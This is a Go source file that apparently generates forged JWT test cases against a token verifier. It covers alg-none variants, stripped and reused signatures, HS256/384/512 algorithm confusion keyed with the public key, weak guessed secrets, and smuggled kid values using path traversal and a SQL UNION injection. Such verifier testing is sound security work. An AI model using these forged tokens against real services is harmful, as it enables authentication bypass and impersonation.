package forge

import (
	"fmt"
	"strings"

	"github.com/golang-jwt/jwt/v5"
)

// unsigned are tokens without a signature, or with one nobody could make.
func (f *forger) unsigned() {
	header, payload, signature := f.parts()
	none := encode(with(f.header, "alg", "none"))
	f.add("T01", "alg-none", "The algorithm is none and the signature is empty.", none+"."+f.forgedPayload()+".")
	f.add("T01", "alg-none-two-segments", "The algorithm is none and there is no third segment.", none+"."+f.forgedPayload())
	f.add("T01", "alg-none-kept-signature", "The algorithm is none, the old signature is kept.", none+"."+payload+"."+signature)
	for i, spelling := range []string{"None", "NONE", "nOnE", "nonE", " none", "none ", "none\u0000", ""} {
		f.add("T02", fmt.Sprintf("alg-none-variant-%d", i+1), fmt.Sprintf("The algorithm is spelt %q.", spelling), encode(with(f.header, "alg", spelling))+"."+f.forgedPayload()+".")
	}
	f.add("T02", "alg-none-list", "The algorithm is a list.", encode(with(f.header, "alg", []string{"none"}))+"."+f.forgedPayload()+".")
	f.add("T02", "alg-null", "The algorithm is null.", b64([]byte(`{"alg":null,"typ":"at+jwt"}`))+"."+f.forgedPayload()+".")
	f.add("T02", "alg-missing", "There is no algorithm.", encode(with(f.header, "alg", nil))+"."+f.forgedPayload()+".")
	f.add("T03", "signature-stripped", "The signature is removed, the algorithm kept.", header+"."+f.forgedPayload()+".")
	f.add("T03", "signature-segment-missing", "The signature segment is missing.", header+"."+f.forgedPayload())
	f.add("T03", "signature-one-byte", "The signature is one byte long.", header+"."+f.forgedPayload()+".AA")
	f.add("T04", "payload-edited", "The claims are changed, the signature is the old one.", header+"."+f.forgedPayload()+"."+signature)
}

// confused are tokens whose HMAC secret is the issuer's public key, in each
// form in which a library may hold it (algorithm confusion).
func (f *forger) confused() {
	for _, method := range []*jwt.SigningMethodHMAC{jwt.SigningMethodHS256, jwt.SigningMethodHS384, jwt.SigningMethodHS512} {
		header := encode(with(f.header, "alg", method.Alg()))
		for _, form := range publicForms(f.key) {
			name := strings.ToLower(method.Alg()) + "-public-key"
			if form.name != "" {
				name += "-" + form.name
			}
			f.add("T05", name, fmt.Sprintf("Signed with %s; the secret is the public key as %s.", method.Alg(), form.title), signed(method, form.secret, header, f.forgedPayload()))
		}
	}
	header := encode(with(f.header, "alg", "HS256"))
	for _, s := range []struct{ name, secret string }{
		{"empty", ""}, {"null", "null"}, {"undefined", "undefined"}, // HMAC pads with zeros: NUL bytes are the empty secret
		{"secret", "secret"}, {"changeme", "changeme"}, {"your-256-bit-secret", "your-256-bit-secret"}, {"gatehouse", "gatehouse"},
	} {
		f.add("T11", "hs256-secret-"+s.name, fmt.Sprintf("Signed with HS256 and the secret %q.", s.secret), signed(jwt.SigningMethodHS256, []byte(s.secret), header, f.forgedPayload()))
	}
	f.add("T20", "kid-dev-null", "The kid is a path to an empty file, the secret is empty.",
		signed(jwt.SigningMethodHS256, []byte(""), encode(with(with(f.header, "alg", "HS256"), "kid", "../../../../../../dev/null")), f.forgedPayload()))
	f.add("T20", "kid-proc-sys", "The kid is a path to a file with known content.",
		signed(jwt.SigningMethodHS256, []byte("2\n"), encode(with(with(f.header, "alg", "HS256"), "kid", "/proc/sys/kernel/randomize_va_space")), f.forgedPayload()))
	f.add("T21", "kid-sql", "The kid is SQL that answers with a known secret.",
		signed(jwt.SigningMethodHS256, []byte("k"), encode(with(with(f.header, "alg", "HS256"), "kid", "x' UNION SELECT 'k'-- ")), f.forgedPayload()))
}
